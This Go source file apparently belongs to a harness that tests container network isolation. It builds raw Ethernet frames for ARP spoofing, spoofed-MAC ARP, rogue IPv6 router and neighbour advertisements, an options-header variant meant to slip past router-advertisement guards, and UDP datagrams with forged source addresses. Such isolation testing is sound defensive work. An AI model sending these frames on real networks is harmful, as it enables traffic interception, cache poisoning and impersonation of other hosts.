package main

import (
	"encoding/binary"
	"net"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// Forged frames, sent from the first Ethernet interface with a raw socket. They
// are sent for longer than a neighbour's entry is locked after a change (1 s).
func init() {
	// forge-arp:ADDRESS says to all that the address is this container's.
	techniques["forge-arp"] = func(args []string) error {
		of, err := netip.ParseAddr(argument(args, 0))
		if err != nil {
			return err
		}
		return sendFrame(func(mac net.HardwareAddr) []byte { return arp(mac, mac, of) })
	}
	// forge-mac:ADDRESS asks for an address from another hardware address.
	techniques["forge-mac"] = func(args []string) error {
		of, err := netip.ParseAddr(argument(args, 0))
		if err != nil {
			return err
		}
		other := net.HardwareAddr{2, 0xba, 0xd, 0, 0, 1}
		return sendFrame(func(net.HardwareAddr) []byte { return arp(other, other, of) })
	}
	// forge-router is a router advertisement that offers a default route.
	techniques["forge-router"] = func([]string) error {
		return sendFrame(advertisement)
	}
	// forge-nd:ADDRESS is a neighbour advertisement, which says to all that the
	// address is this container's.
	techniques["forge-nd"] = func(args []string) error {
		of, err := netip.ParseAddr(strings.Join(args, ":"))
		if err != nil {
			return err
		}
		return sendFrame(func(mac net.HardwareAddr) []byte { return neighbour(mac, of) })
	}
	// forge-router-options is forge-router with a header of options before it,
	// for guards that look at a fixed place.
	techniques["forge-router-options"] = func([]string) error {
		return sendFrame(func(mac net.HardwareAddr) []byte { return toAll(mac, routerAdvertisement(mac), true) })
	}
	// forge-udp:FROM:TO:PORT is a datagram from another's address.
	techniques["forge-udp"] = func(args []string) error {
		from, err := netip.ParseAddr(argument(args, 0))
		if err != nil {
			return err
		}
		to, err := netip.ParseAddr(argument(args, 1))
		if err != nil {
			return err
		}
		port, err := net.LookupPort("udp", argument(args, 2))
		if err != nil {
			return err
		}
		return sendFrame(func(mac net.HardwareAddr) []byte { return datagram(mac, from, to, uint16(port)) })
	}
}

var everybody = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

func sendFrame(frame func(own net.HardwareAddr) []byte) error {
	link, err := ethernet()
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	for range 15 {
		if err := unix.Sendto(fd, frame(link.HardwareAddr), 0, &unix.SockaddrLinklayer{Ifindex: link.Index}); err != nil {
			return err
		}
		time.Sleep(100 * time.Millisecond)
	}
	return nil
}

func ethernet() (net.Interface, error) {
	all, err := net.Interfaces()
	for _, i := range all {
		if len(i.HardwareAddr) == 6 && i.Flags&net.FlagUp != 0 {
			return i, nil
		}
	}
	if err == nil {
		err = unix.ENODEV
	}
	return net.Interface{}, err
}

func ether(to, from net.HardwareAddr, kind uint16) []byte {
	return binary.BigEndian.AppendUint16(append(append([]byte{}, to...), from...), kind)
}

// arp is a reply to nobody's question. Source: RFC 826.
func arp(from, mac net.HardwareAddr, of netip.Addr) []byte {
	b := append(ether(everybody, from, unix.ETH_P_ARP), 0, 1, 8, 0, 6, 4, 0, 2)
	b = append(append(b, mac...), of.AsSlice()...)
	return append(append(b, everybody...), of.AsSlice()...)
}

// datagram has no checksum of its own. Source: RFC 791, 768.
func datagram(mac net.HardwareAddr, from, to netip.Addr, port uint16) []byte {
	packet := []byte{0x45, 0, 0, 29, 0, 0, 0, 0, 64, unix.IPPROTO_UDP, 0, 0}
	packet = append(append(packet, from.AsSlice()...), to.AsSlice()...)
	binary.BigEndian.PutUint16(packet[10:], checksum(packet))
	packet = binary.BigEndian.AppendUint16(append(packet, 0x30, 0x39), port)
	return append(append(ether(everybody, mac, unix.ETH_P_IP), packet...), 0, 9, 0, 0, 'x')
}

// advertisement is a router's.
func advertisement(mac net.HardwareAddr) []byte { return toAll(mac, routerAdvertisement(mac), false) }

// routerAdvertisement offers a default route. Source: RFC 4861, section 4.2.
func routerAdvertisement(mac net.HardwareAddr) []byte {
	message := []byte{134, 0, 0, 0, 64, 0, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0}
	return append(append(message, 1, 1), mac...) // source link-layer address
}

// neighbour is a neighbour's advertisement that overrides what is known. Source:
// RFC 4861, section 4.4.
func neighbour(mac net.HardwareAddr, of netip.Addr) []byte {
	const override = 0x20
	message := append([]byte{136, 0, 0, 0, override, 0, 0, 0}, of.AsSlice()...)
	return toAll(mac, append(append(message, 2, 1), mac...), false) // target link-layer address
}

// toAll is an ICMPv6 message to all nodes, from the interface's own link-local
// address, with a header of destination options before it or without.
func toAll(mac net.HardwareAddr, message []byte, options bool) []byte {
	from := []byte{0xfe, 0x80, 0, 0, 0, 0, 0, 0, mac[0] ^ 2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]}
	to := []byte{0: 0xff, 1: 2, 15: 1}
	pseudo := append(append(append([]byte{}, from...), to...), 0, 0, 0, byte(len(message)), 0, 0, 0, unix.IPPROTO_ICMPV6)
	binary.BigEndian.PutUint16(message[2:], checksum(append(pseudo, message...)))
	next := byte(unix.IPPROTO_ICMPV6)
	if options {
		message = append([]byte{next, 0, 1, 4, 0, 0, 0, 0}, message...) // padding only
		next = unix.IPPROTO_DSTOPTS
	}
	packet := append([]byte{0x60, 0, 0, 0, 0, byte(len(message)), next, 255}, from...)
	packet = append(append(packet, to...), message...)
	return append(ether(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, mac, unix.ETH_P_IPV6), packet...)
}

// checksum is that of RFC 1071.
func checksum(b []byte) uint16 {
	var sum uint32
	for ; len(b) > 1; b = b[2:] {
		sum += uint32(binary.BigEndian.Uint16(b))
	}
	if len(b) == 1 {
		sum += uint32(b[0]) << 8
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
